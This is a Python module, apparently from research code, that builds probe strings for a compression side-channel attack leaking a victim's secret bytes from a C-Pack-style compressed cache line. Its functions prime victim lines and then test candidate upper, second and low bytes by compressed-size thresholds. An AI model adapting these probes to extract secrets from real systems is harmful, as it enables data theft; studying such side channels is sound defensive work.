"""Attack strings written into the victim's buffer.

The victim's superblock is primed so that lines 0-2 compress to 64, 64 and 65
bytes, leaving 63 bytes (504 bits) of the 256-byte budget for the secret line.
Each probe string below fills the attacker-writable words of the secret line so
that the line fits in those 504 bits exactly when the secret word(s) compress
one pattern cheaper than the alternative being tested.

Word bytes are listed least significant first, as they sit in memory. Fillers
have the form ``00 00 k 00``: a new word every time, whose zero top byte can
never match a secret word, since secret bytes are non-zero.
"""
from __future__ import annotations
from typing import List, Sequence

from ..codec.cpack import LINE_SIZE_BYTES, WORD_SIZE_BYTES, WORDS_PER_LINE

SECRET_LINE = 3
PRIMED_LINES = 3
SECRET_LINE_BUDGET_BYTES = 63

ZERO_WORD = bytes(4)                      # zzzz, 2 bits
BYTE_WORD = bytes([0xFF, 0, 0, 0])        # zzzx, 10 bits
MMMX_FILLER = bytes([0x01, 0, 0x01, 0])   # mmmx against filler_word(1), 14 bits
MMXX_FILLER = bytes([0, 0x01, 0x01, 0])   # mmxx against filler_word(1), 22 bits


def filler_word(k: int) -> bytes:
    """A new (xxxx, 34 bits) word that no secret word can match."""
    return bytes([0, 0, k, 0])


def short_word(short: int, second: int = 0, low: int = 0) -> bytes:
    """A word whose upper two bytes are `short`."""
    return bytes([low, second, short & 0xFF, short >> 8])


def attack_words(secret_words: int) -> int:
    """Number of attacker-writable words in the secret line."""
    return WORDS_PER_LINE - secret_words


def attack_string_length(secret_words: int) -> int:
    return attack_words(secret_words) * WORD_SIZE_BYTES


def priming_line(index: int) -> bytes:
    """Contents for victim line `index` (0-2).

    Fifteen filler words (15 * 34 bits) plus a zero word make 512 bits, 64 bytes.
    The last primed line ends in a zzzx word instead: 520 bits, 65 bytes.
    """
    words = [filler_word(k) for k in range(1, WORDS_PER_LINE)]
    words.append(BYTE_WORD if index == PRIMED_LINES - 1 else ZERO_WORD)
    line = b"".join(words)
    assert len(line) == LINE_SIZE_BYTES
    return line


def _pad(words: List[bytes], count: int) -> List[bytes]:
    """Appends fillers until `count` words are present."""
    k = 1
    while len(words) < count:
        words.append(filler_word(k))
        k += 1
    return words


def short_capacity(secret_words: int) -> int:
    """How many candidate shorts one probe can test."""
    return attack_words(secret_words) - 1


def short_probe(candidates: Sequence[int], secret_words: int) -> bytes:
    """Tests whether a secret word's upper two bytes are among `candidates`.

    4-byte secret: 14 new words + 1 zero word = 478 bits. The secret word adds
    22 (mmxx) on a match, 34 otherwise: 500 vs 512 bits.
    8-byte secret: 13 new words + 1 zero word = 444 bits. The two secret words add
    22 + 34 if either matches, 68 otherwise: 500 vs 512 bits.
    """
    capacity = short_capacity(secret_words)
    if not 1 <= len(candidates) <= capacity:
        raise ValueError(f"Bad number of shorts to include: {len(candidates)} (1-{capacity} allowed)")
    words = _pad([short_word(short) for short in candidates], capacity)
    words.append(ZERO_WORD)
    return b"".join(words)


def second_byte_probe(short: int, candidate: int, secret_words: int) -> bytes:
    """Tests a candidate for the second-lowest byte of the word starting with `short`.

    4-byte secret: candidate word + 13 fillers + an mmmx filler = 490 bits. The secret
    word adds 14 (mmmx) on a match, 22 (mmxx) otherwise: 504 vs 512 bits.
    8-byte secret: candidate word + 12 fillers + a zzzx word = 452 bits. The secret words
    add 14 + 34 on a match, 22 + 34 otherwise: 500 vs 508 bits.
    """
    count = attack_words(secret_words) - 1
    words = _pad([short_word(short, candidate)], count)
    words.append(MMMX_FILLER if secret_words == 1 else BYTE_WORD)
    return b"".join(words)


def low_byte_probe(short: int, second: int, candidate: int, secret_words: int) -> bytes:
    """Tests a candidate for the lowest byte of the word starting with `short`, `second`.

    4-byte secret: candidate word + 13 fillers + an mmxx filler = 498 bits. The secret
    word adds 6 (mmmm) on a match, 14 (mmmx) otherwise: 504 vs 512 bits.
    8-byte secret: candidate word + 12 fillers + an mmxx filler = 464 bits. The secret
    words add 6 + 34 on a match, 14 + 34 otherwise: 504 vs 512 bits.
    """
    count = attack_words(secret_words) - 1
    words = _pad([short_word(short, second, candidate)], count)
    words.append(MMXX_FILLER)
    return b"".join(words)


def candidate_shorts() -> List[int]:
    """Every possible upper two bytes of a secret word, in value order."""
    return [short for short in range(0x0101, 0x10000)
            if short & 0xFF and short >> 8 != short & 0xFF]
